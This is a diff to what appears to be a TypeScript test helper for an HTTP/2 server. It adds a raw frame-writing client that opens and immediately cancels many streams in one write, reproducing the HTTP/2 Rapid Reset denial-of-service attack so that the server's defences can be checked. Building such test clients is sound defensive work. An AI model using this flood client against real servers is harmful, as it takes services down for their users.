@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs';
 import http2 from 'node:http2';
 import { join } from 'node:path';
+import type { Duplex } from 'node:stream';
 
 // HTTP/2 clients for the tests, driven frame by frame as an attacker would: node:http2 sends HEADERS and RST_STREAM
 // when told to, and nothing else gets in the way (no retries, no pooling).
@@ -93,4 +94,94 @@ export async function rapidReset(session: http2.ClientHttp2Session, headers: htt
     await new Promise((resolve) => setImmediate(resolve));
   }
   return opened;
+}
+
+/**
+ * A raw HTTP/2 client that writes frames itself, as an attacker's tool does: no stream bookkeeping, no flow control,
+ * no waiting. It answers the server's SETTINGS, and records every GOAWAY's error code.
+ */
+export class RawH2Connection {
+  readonly goaways: number[] = [];
+  /** The server sent its SETTINGS: an HTTP/2 session was set up (a connection refused outright never gets one). */
+  served = false;
+  readonly closed: Promise<void>;
+  private nextStreamId = 1;
+  private pending = Buffer.alloc(0);
+
+  constructor(readonly socket: Duplex) {
+    this.closed = new Promise((resolve) => socket.once('close', () => resolve()));
+    socket.on('error', () => undefined);
+    socket.on('data', (chunk: Buffer) => this.read(chunk));
+    socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))]));
+  }
+
+  get isClosed(): boolean {
+    return this.socket.destroyed;
+  }
+
+  /** `count` streams, each opened (HEADERS with END_STREAM) and reset (RST_STREAM CANCEL) at once, in one write. */
+  rapidReset(authority: string, path: string, count: number): Promise<void> {
+    return this.streams(authority, path, count, true);
+  }
+
+  /** `count` GET streams (HEADERS with END_STREAM) in one write, whatever the server's SETTINGS allow. */
+  openStreams(authority: string, path: string, count: number): Promise<void> {
+    return this.streams(authority, path, count, false);
+  }
+
+  private streams(authority: string, path: string, count: number, reset: boolean): Promise<void> {
+    const block = Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, path), literal(1, authority)]);
+    const frames: Buffer[] = [];
+    for (let i = 0; i < count; i++) {
+      const id = this.nextStreamId;
+      this.nextStreamId += 2;
+      frames.push(frame(FRAME.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, id, block));
+      if (reset) frames.push(frame(FRAME.RST_STREAM, 0, id, uint32(http2.constants.NGHTTP2_CANCEL)));
+    }
+    return new Promise((resolve) => {
+      if (this.socket.destroyed) resolve();
+      else this.socket.write(Buffer.concat(frames), () => resolve());
+    });
+  }
+
+  private read(chunk: Buffer): void {
+    this.pending = Buffer.concat([this.pending, chunk]);
+    while (this.pending.length >= 9) {
+      const length = this.pending.readUIntBE(0, 3);
+      if (this.pending.length < 9 + length) return;
+      const [type, flags] = [this.pending[3]!, this.pending[4]!];
+      const payload = this.pending.subarray(9, 9 + length);
+      this.pending = this.pending.subarray(9 + length);
+      if (type === FRAME.SETTINGS && !(flags & FLAG.ACK)) {
+        this.served = true;
+        this.socket.write(frame(FRAME.SETTINGS, FLAG.ACK, 0, Buffer.alloc(0)));
+      }
+      if (type === FRAME.GOAWAY) this.goaways.push(payload.readUInt32BE(4));
+    }
+  }
+}
+
+const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
+const FRAME = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, GOAWAY: 0x7 } as const;
+const FLAG = { ACK: 0x1, END_STREAM: 0x1, END_HEADERS: 0x4 } as const;
+
+function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
+  const header = Buffer.alloc(9);
+  header.writeUIntBE(payload.length, 0, 3);
+  header[3] = type;
+  header[4] = flags;
+  header.writeUInt32BE(streamId, 5);
+  return Buffer.concat([header, payload]);
+}
+
+function uint32(value: number): Buffer {
+  const buf = Buffer.alloc(4);
+  buf.writeUInt32BE(value);
+  return buf;
+}
+
+/** HPACK "literal header field without indexing", the name by its static-table index (RFC 7541 6.2.2); short values only. */
+function literal(nameIndex: number, value: string): Buffer {
+  if (value.length > 126) throw new Error('literal(): values up to 126 bytes');
+  return Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value, 'latin1')]);
 }
